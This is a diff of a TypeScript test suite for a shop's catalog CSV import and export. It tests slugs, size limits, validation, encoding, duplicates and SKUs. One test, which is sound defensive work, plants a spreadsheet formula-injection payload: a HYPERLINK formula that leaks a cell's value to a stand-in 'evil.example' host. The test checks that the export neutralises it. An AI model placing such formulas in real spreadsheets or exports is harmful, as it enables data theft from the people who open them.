@@ -4,7 +4,8 @@ import { callApi } from '../../../tests/support/forms.ts';
 import { createTestApp, type TestApp } from '../../../tests/support/test-app.ts';
 import { ownStoreScope, type StoreScope } from '#server/modules/store/store-scope.ts';
 import { applyImport, exportCatalog, previewImport } from './product-csv.service.ts';
-import { decimalToInteger, integerToDecimal } from './csv-values.ts';
+import { decimalToInteger, integerToDecimal, neutraliseCell, restoreCell } from './csv-values.ts';
+import { FreeSlugs } from '#common/free-slug.ts';
 
 // The catalog as CSV (issue 11 §9) on the suite's database, with the store guard on: export,
 // preview, all-or-nothing import, per-row problems, the plan limit and store isolation, through the
@@ -67,7 +68,7 @@ describe('the catalog CSV', () => {
     expect(rows.filter((row) => row.startsWith('variant,'))).toHaveLength(2);
 
     const preview = await previewImport(t.deps, scope, text);
-    expect(preview).toEqual({ products: { create: 0, update: 0, unchanged: 2 }, variants: { create: 0, update: 0, unchanged: 2 }, problems: [], applied: false });
+    expect(preview).toEqual({ products: { create: 0, update: 0, unchanged: 2 }, variants: { create: 0, update: 0, unchanged: 2 }, problems: [], applied: false, encoding: 'utf-8', duplicates: [], duplicateCount: 0 });
     const applied = await applyImport(t.deps, scope, text);
     expect(applied.applied).toBe(true);
     expect(await exportCatalog(t.deps, scope)).toBe(text);
@@ -81,8 +82,10 @@ describe('the catalog CSV', () => {
       'variant,taza-2,,Azul,,,,,,,,,7.50,,,2,,,,,,,,',
     ].join('\n');
     const file = `${text.trimEnd()}\n${added}\n`;
-    expect(await previewImport(t.deps, scope, file)).toMatchObject({ products: { create: 1, update: 0, unchanged: 2 }, variants: { create: 1, update: 1, unchanged: 1 }, problems: [] });
-    expect((await applyImport(t.deps, scope, file)).applied).toBe(true);
+    // a second "Taza" is a likely duplicate: listed, and left out (with its new variant) until confirmed
+    expect(await previewImport(t.deps, scope, file)).toMatchObject({ products: { create: 0, update: 0, unchanged: 2 }, variants: { create: 0, update: 1, unchanged: 1 }, problems: [], duplicates: [{ line: 7, name: 'Taza' }] });
+    expect(await previewImport(t.deps, scope, file, { createDuplicates: true })).toMatchObject({ products: { create: 1, update: 0, unchanged: 2 }, variants: { create: 1, update: 1, unchanged: 1 }, problems: [] });
+    expect((await applyImport(t.deps, scope, file, { createDuplicates: true })).applied).toBe(true);
 
     const variant = await t.db.selectFrom('variant').select('priceCents').where('storeId', '=', scope.storeId).where('sku', '=', 'CAM-1-RM').executeTakeFirstOrThrow();
     expect(variant.priceCents).toBe(2105);
@@ -197,5 +200,176 @@ describe('the catalog CSV API', () => {
     expect(json.statusCode).toBe(415);
     const anonymous = await t.app.inject({ method: 'GET', url: '/api/v1/products/export' });
     expect(anonymous.statusCode).toBe(401);
+  });
+});
+
+/** Gives the store a plan of its own with this product limit (the default plan is every test store's). */
+async function ownPlan(scope: StoreScope, maxProducts: number) {
+  const stamp = new Date().toISOString();
+  const [plan] = await t.db.insertInto('plan').values({ name: `CSV ${scope.storeId}-${maxProducts}`, priceCents: 0, maxProducts, maxBanners: 1, maxPages: 1, features: '[]', isDefault: 0, createdAt: stamp, updatedAt: stamp }).returning('id').execute();
+  await t.db.updateTable('store').set({ planId: plan!.id }).where('id', '=', scope.storeId).execute();
+}
+
+const headerOf = async (scope: StoreScope) => lines(await exportCatalog(t.deps, scope))[0]!.replace(/^\uFEFF/, '');
+const productsOf = (scope: StoreScope) => t.db.selectFrom('product').select(['id', 'name', 'slug', 'sku', 'priceCents', 'content']).where('storeId', '=', scope.storeId).orderBy('id').execute();
+
+describe('issue 21: a CSV import cannot stall the server', () => {
+  it('gives free slugs with a counter per base: n rows of one name cost about n tries, not n²/2', () => {
+    const slugs = new FreeSlugs(['taza', 'taza-2', 'taza-5']);
+    expect([slugs.take('taza'), slugs.take('taza'), slugs.take('taza'), slugs.take('vaso')]).toEqual(['taza-3', 'taza-4', 'taza-6', 'vaso']);
+    const many = new FreeSlugs(['x']);
+    for (let n = 0; n < 20_000; n++) many.take('x');
+    // the loop of today's service tried 2, 3, … again for every row: ~200 million tries here
+    expect(many.tries).toBeLessThanOrEqual(2 * 20_000 + 1);
+  });
+
+  it('names many rows of one name linearly, after the slugs the store already has', async () => {
+    const { scope } = await storeWithCatalog('s-');
+    await t.db.updateTable('product').set({ slug: 'taza-3' }).where('storeId', '=', scope.storeId).where('slug', '=', 'camiseta').execute();
+    const header = await headerOf(scope);
+    const rows = Array.from({ length: 5 }, (_, n) => `product,,,Vaso ${n},,,,s-ropa,,,,,1,,,,,,,,,,,`);
+    const file = `${header}\n${rows.join('\n')}\nproduct,,,Taza,,,,s-ropa,,,,,1,,,,,,,,,,,\nproduct,,,Taza,,,,s-ropa,,,,,1,,,,,,,,,,,\n`;
+    expect((await applyImport(t.deps, scope, file, { createDuplicates: true })).applied).toBe(true);
+    expect((await productsOf(scope)).map((product) => product.slug).filter((slug) => slug.startsWith('taza'))).toEqual(['taza-3', 'taza', 'taza-2', 'taza-4']);
+  });
+
+  it('refuses a file bigger than the plan can use before reading it: 413 in the page’s language', async () => {
+    const { store, scope } = await storeWithCatalog('t-');
+    await ownPlan(scope, 3); // 3 products: the least any plan takes, 1 MB
+    const header = await headerOf(scope);
+    const big = `${header}\n${'product,,,Relleno,,,,t-ropa,,,,,1,,,,,,,,,,,\n'.repeat(30_000)}`; // ~1.4 MB
+    expect(Buffer.byteLength(big)).toBeGreaterThan(1024 * 1024);
+    await expect(previewImport(t.deps, scope, big)).rejects.toMatchObject({ status: 413, code: 'productCsv.tooBigForPlan' });
+    const post = (lang: string) =>
+      t.app.inject({ method: 'POST', url: '/api/v1/products/import?apply=0', payload: big, headers: { cookie: `${store.owner.cookie}; lang=${lang}`, 'content-type': 'text/csv' } });
+    const es = await post('es');
+    expect(es.statusCode).toBe(413);
+    expect(es.json()).toEqual({ error: 'productCsv.tooBigForPlan', message: 'El archivo es más grande de lo que tu plan puede importar: hasta 1 MB' });
+    expect((await post('en')).json().message).toBe('The file is bigger than your plan can import: up to 1 MB');
+    // a file within the plan is read as before
+    const small = await t.app.inject({ method: 'POST', url: '/api/v1/products/import?apply=0', payload: `${header}\nproduct,,,Uno,,,,t-ropa,,,,,1,,,,,,,,,,,\n`, headers: { cookie: store.owner.cookie, 'content-type': 'text/csv' } });
+    expect(small.statusCode).toBe(200);
+    expect(small.json()).toMatchObject({ products: { create: 1 }, problems: [] });
+  });
+});
+
+describe('issue 21: what goes in is what the form allows, and what comes out runs nowhere', () => {
+  it('neutralises cells a spreadsheet would run, and reads them back unchanged', async () => {
+    expect(['=1+1', '+1', '-2', '@SUM(A1)', '\tx', '\rx', "'=x", 'hola', "'hola", '1-2'].map(neutraliseCell)).toEqual(["'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "''=x", 'hola', "'hola", '1-2']);
+    for (const text of ['=1+1', "'=x", "''+x", "'hola", '-']) expect(restoreCell(neutraliseCell(text))).toBe(text);
+
+    const { scope } = await storeWithCatalog('u-');
+    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    await t.db.updateTable('product').set({ name: evil, sku: '+SKU-1', description: '-bajo', keywords: '@arroba', content: "'=ya citado" }).where('storeId', '=', scope.storeId).where('slug', '=', 'taza').execute();
+    const text = await exportCatalog(t.deps, scope);
+    const taza = lines(text).find((row) => row.startsWith('product,taza,'))!;
+    expect(taza).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
+    expect(taza).toContain(",'+SKU-1,");
+    expect(taza).toContain(",'-bajo,");
+    expect(taza).toContain(",'@arroba,");
+    expect(taza).toContain(",''=ya citado");
+    expect(lines(text).every((row) => !/(^|,)[=+@]/.test(row.replace(/"[^"]*"/g, '""')))).toBe(true);
+    // the import reads the quotes off: nothing changes
+    expect(await previewImport(t.deps, scope, text)).toMatchObject({ products: { create: 0, update: 0, unchanged: 2 }, problems: [] });
+    expect((await applyImport(t.deps, scope, text)).applied).toBe(true);
+    expect((await productsOf(scope)).find((product) => product.slug === 'taza')).toMatchObject({ name: evil, sku: '+SKU-1', content: "'=ya citado" });
+  });
+
+  it('applies the form’s schema and limits to every row, each failure a problem of its column', async () => {
+    const { scope } = await storeWithCatalog('v-');
+    const header = await headerOf(scope);
+    const file = [
+      header,
+      `product,,,Largo,,,,v-ropa,,,,,1,,,,,,,,,,,"${'x'.repeat(20_001)}"`, // line 2: content over the form's 20,000
+      `product,,,${'n'.repeat(161)},,,,v-ropa,,,,,1,,,,,,,,,,,`, // line 3: name over 160
+      `product,Mala Direccion,,Mal,,,,v-ropa,,,,,1,,,,,,,,,,,`, // line 4: a slug the form refuses
+      `product,,,Bien,${'s'.repeat(65)},,,v-ropa,,,,,1,,,,,,,,,,,`, // line 5: SKU over 64
+      `variant,camiseta,,${'v'.repeat(161)},,,,,,,,,1,,,,,,,,,,,`, // line 6: a variant's name over 160
+    ].join('\n');
+    const summary = await applyImport(t.deps, scope, file);
+    expect(summary.applied).toBe(false);
+    expect(summary.problems.map((problem) => [problem.line, problem.column, problem.message, problem.values])).toEqual([
+      [2, 'content', 'productCsv.tooLong', { max: 20_000 }],
+      [3, 'name', 'productCsv.tooLong', { max: 160 }],
+      [4, 'product_slug', 'validation.slug', undefined],
+      [5, 'sku', 'productCsv.tooLong', { max: 64 }],
+      [6, 'name', 'productCsv.tooLong', { max: 160 }],
+    ]);
+    // exactly at the limit is fine, as in the form
+    const fine = `${header}\nproduct,,,Justo,,,,v-ropa,,,,,1,,,,,,,,,,,"${'x'.repeat(20_000)}"\n`;
+    expect((await applyImport(t.deps, scope, fine)).applied).toBe(true);
+  });
+
+  it('reads a Windows-1252 (Latin-1) file as such, and says so in the preview', async () => {
+    const { store, scope } = await storeWithCatalog('w-');
+    const header = await headerOf(scope);
+    const latin1 = Buffer.from(`${header}\nproduct,,,Camión,,,,w-ropa,,,,,1,,,,,,,,,,,Señal €5\n`, 'latin1');
+    latin1[latin1.length - 3] = 0x80; // "€" in Windows-1252, which Latin-1 lacks
+    expect((await previewImport(t.deps, scope, latin1)).encoding).toBe('windows-1252');
+    const post = (body: Buffer) => t.app.inject({ method: 'POST', url: '/api/v1/products/import?apply=1', payload: body, headers: { cookie: store.owner.cookie, 'content-type': 'text/csv' } });
+    const answer = await post(latin1);
+    expect(answer.statusCode).toBe(200);
+    expect(answer.json()).toMatchObject({ applied: true, encoding: 'windows-1252', products: { create: 1 } });
+    expect((await productsOf(scope)).find((product) => product.slug === 'camion')).toMatchObject({ name: 'Camión', content: 'Señal €5' });
+    // the same text in UTF-8 (with or without a BOM) is read as UTF-8
+    const utf8 = await post(Buffer.from(`\uFEFF${header}\nproduct,camion,,Camión,,,,w-ropa,,,,,1,,,,,,,,,,,Señal €5\n`, 'utf8'));
+    expect(utf8.json()).toMatchObject({ applied: true, encoding: 'utf-8', products: { unchanged: 1 } });
+  });
+});
+
+describe('issue 20 §4: importing the same file twice does not double the catalog', () => {
+  it('updates the product or variant that has the row’s SKU when the row has no slug or id', async () => {
+    const { scope } = await storeWithCatalog('x-');
+    const header = await headerOf(scope);
+    const file = `${header}\nproduct,,,Camiseta nueva,CAM-1,,,x-ropa,,,,,25,,,,,,,,,,,\nvariant,camiseta,,Rojo M,CAM-1-RM,,,,,,,,30,,,7,,,,,,,,\n`;
+    expect(await previewImport(t.deps, scope, file)).toMatchObject({ products: { create: 0, update: 1 }, variants: { create: 0, update: 1 }, problems: [], duplicates: [] });
+    expect((await applyImport(t.deps, scope, file)).applied).toBe(true);
+    const products = await productsOf(scope);
+    expect(products).toHaveLength(2);
+    expect(products.find((product) => product.sku === 'CAM-1')).toMatchObject({ slug: 'camiseta', name: 'Camiseta nueva', priceCents: 2500 });
+    const variants = await t.db.selectFrom('variant').select(['sku', 'priceCents', 'stock']).where('storeId', '=', scope.storeId).orderBy('id').execute();
+    expect(variants).toEqual([{ sku: 'CAM-1-RM', priceCents: 3000, stock: 7 }, { sku: 'CAM-1-RL', priceCents: 2199, stock: 1 }]);
+  });
+
+  it('marks a second product of the same name as a likely duplicate, created only when confirmed', async () => {
+    const { store, scope } = await storeWithCatalog('y-');
+    const header = await headerOf(scope);
+    const file = `${header}\n${['Vaso', 'Plato', 'Jarra'].map((name) => `product,,,${name},,,,y-ropa,,,,,1,,,,,,,,,,,`).join('\n')}\n`;
+    expect((await applyImport(t.deps, scope, file)).applied).toBe(true);
+    expect(await productsOf(scope)).toHaveLength(5);
+    // the same file again: three likely duplicates, nothing created
+    const again = await previewImport(t.deps, scope, file);
+    expect(again).toMatchObject({ products: { create: 0 }, problems: [], duplicates: [{ line: 2, name: 'Vaso' }, { line: 3, name: 'Plato' }, { line: 4, name: 'Jarra' }] });
+    expect((await applyImport(t.deps, scope, file)).applied).toBe(true);
+    expect(await productsOf(scope)).toHaveLength(5);
+    // a name twice in one file, any letter case: the second waits too
+    expect((await previewImport(t.deps, scope, `${header}\nproduct,,,Olla,,,,y-ropa,,,,,1,,,,,,,,,,,\nproduct,,,OLLA ,,,,y-ropa,,,,,1,,,,,,,,,,,\n`)).duplicates).toEqual([{ line: 3, name: 'OLLA' }]);
+    // confirmed through the API: created, with free slugs
+    const post = (query: string) => t.app.inject({ method: 'POST', url: `/api/v1/products/import?${query}`, payload: file, headers: { cookie: store.owner.cookie, 'content-type': 'text/csv' } });
+    expect((await post('apply=0')).json()).toMatchObject({ products: { create: 0 }, duplicates: [{ line: 2 }, { line: 3 }, { line: 4 }] });
+    expect((await post('apply=1&duplicates=create')).json()).toMatchObject({ applied: true, products: { create: 3 } });
+    expect((await productsOf(scope)).map((product) => product.slug).filter((slug) => slug.startsWith('vaso'))).toEqual(['vaso', 'vaso-2']);
+  });
+
+  it('keeps a SKU to one product or variant of the store', async () => {
+    const { scope } = await storeWithCatalog('z-');
+    const header = await headerOf(scope);
+    const file = [
+      header,
+      'product,,,Gorra,CAM-1-RM,,,z-ropa,,,,,1,,,,,,,,,,,', // line 2: a variant's SKU
+      'product,,,Bolso,B-1,,,z-ropa,,,,,1,,,,,,,,,,,', // line 3
+      'product,,,Cinturón,B-1,,,z-ropa,,,,,1,,,,,,,,,,,', // line 4: the SKU of line 3
+      'variant,taza,,Azul,CAM-1,,,,,,,,1,,,,,,,,,,,', // line 5: a product's SKU, on a new variant
+    ].join('\n');
+    const summary = await applyImport(t.deps, scope, file);
+    expect(summary.applied).toBe(false);
+    expect(summary.problems.map((problem) => [problem.line, problem.column, problem.message])).toEqual([
+      [2, 'sku', 'validation.skuTaken'],
+      [4, 'sku', 'productCsv.duplicateSku'],
+      [5, 'sku', 'validation.skuTaken'],
+    ]);
+    // the database refuses a second one too (migration 2026-11-26-044)
+    const taza = (await productsOf(scope)).find((product) => product.slug === 'taza')!;
+    await expect(t.db.updateTable('product').set({ sku: 'CAM-1' }).where('id', '=', taza.id).execute()).rejects.toThrow();
   });
 });
